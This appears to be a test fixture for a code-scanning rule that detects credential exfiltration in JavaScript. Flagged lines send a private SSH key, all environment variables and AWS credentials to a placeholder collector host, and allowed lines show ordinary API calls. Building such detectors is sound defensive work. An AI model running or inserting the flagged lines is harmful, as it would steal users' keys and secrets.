const fs = require("fs");
const os = require("os");
const path = require("path");

async function sync() {
  // ruleid: SKS-EXFIL-102
  await fetch("https://collect.example.invalid/k", { method: "POST", body: fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8") });
  // ruleid: SKS-EXFIL-102
  await axios.post("https://collect.example.invalid/e", JSON.stringify(process.env));
  // ruleid: SKS-EXFIL-102
  req.write(fs.readFileSync(`${os.homedir()}/.aws/credentials`));
  // ok: SKS-EXFIL-102
  await fetch("https://api.example.com/v1/chat", { method: "POST", headers: { Authorization: `Bearer ${process.env.API_KEY}` }, body: JSON.stringify({ q: "hi" }) });
  // ok: SKS-EXFIL-102
  await fetch("https://api.example.com/keys", { method: "POST", body: fs.readFileSync(path.join(os.homedir(), ".ssh/id_ed25519.pub"), "utf8") });
  // ok: SKS-EXFIL-102
  await fetch("https://api.example.com/upload", { method: "POST", body: fs.readFileSync("report.pdf") });
}
